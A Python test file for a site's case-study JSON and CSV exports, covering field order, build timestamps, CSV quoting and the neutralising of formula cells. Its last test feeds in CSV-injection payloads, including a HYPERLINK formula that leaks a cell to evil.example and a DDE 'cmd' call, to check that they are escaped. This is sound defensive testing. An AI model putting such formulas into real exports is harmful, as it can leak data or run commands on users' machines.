"""/case-studies.json (contract §4)."""

from __future__ import annotations

import datetime as dt
import json

import pytest
from conftest import VOCABULARIES, study

from macros.outputs.exports import build_json_index, build_time
from macros.content.index import build_index
from macros.content.model import School, Trust


def test_document_shape_and_order() -> None:
    index = build_index(
        [
            study("old", "2024-01-01", trust=Trust(name="T"), school=School(name="S")),
            study("new", "2025-01-01"),
            study("draft", "2025-06-01", draft=True),
        ],
        VOCABULARIES,
    )
    document = json.loads(build_json_index(index, dt.datetime(2025, 7, 1, 12, 0, tzinfo=dt.timezone.utc)))
    assert document["generated"] == "2025-07-01T12:00:00+00:00"
    assert document["count"] == 2
    assert [entry["slug"] for entry in document["case_studies"]] == ["new", "old"]
    old = document["case_studies"][1]
    assert old["trust"] == "T" and old["school"] == "S"
    assert old["partnership_models"] == [] and old["programmes"] == []
    assert list(old) == [
        "slug", "url", "title", "type", "date", "summary", "phases", "hubs",
        "partnership_models", "programmes", "trust", "school",
    ]


def test_build_time_honours_source_date_epoch(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    assert build_time().isoformat() == "2023-11-14T22:13:20+00:00"


# --- /case-studies.csv ------------------------------------------------------------


def read_csv(text: str) -> list[dict[str, str]]:
    import csv
    import io

    assert text.startswith("\ufeff"), "a byte order mark, so Excel reads UTF-8"
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_csv_has_the_json_fields_in_the_json_order() -> None:
    from macros.outputs.exports import build_csv_index

    index = build_index(
        [
            study("old", "2024-01-01", hubs=("jurassic", "mobius"), trust=Trust(name="T"), school=School(name="S")),
            study("new", "2025-01-01", title="Café, \"quotes\"\nand a new line"),
            study("draft", "2025-06-01", draft=True),
        ],
        VOCABULARIES,
    )
    text = build_csv_index(index)
    rows = read_csv(text)
    entries = json.loads(build_json_index(index, dt.datetime(2025, 7, 1, tzinfo=dt.timezone.utc)))["case_studies"]
    assert list(rows[0]) == list(entries[0])
    assert [row["slug"] for row in rows] == ["new", "old"]
    assert rows[0]["title"] == 'Café, "quotes"\nand a new line'
    assert rows[1]["hubs"] == "jurassic; mobius"
    assert rows[1]["trust"] == "T" and rows[0]["trust"] == "" and rows[0]["programmes"] == ""
    assert text.count("\r\n") == 3  # header and two rows end in CRLF (RFC 4180); the quoted title keeps its own line break


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_text(start: str) -> None:
    from macros.outputs.exports import build_csv_index

    hostile = f'{start}HYPERLINK("https://evil.example/?"&A1, "Click")'
    index = build_index(
        [study("hostile", title=hostile, summary=f"{start}1+1 is a summary", trust=Trust(name=f"{start}cmd|' /C calc'!A0"))],
        VOCABULARIES,
    )
    row = read_csv(build_csv_index(index))[0]
    assert row["title"] == "'" + hostile
    assert row["summary"] == f"'{start}1+1 is a summary"
    assert row["trust"].startswith("'" + start)
    assert row["slug"] == "hostile"  # ordinary cells are left alone
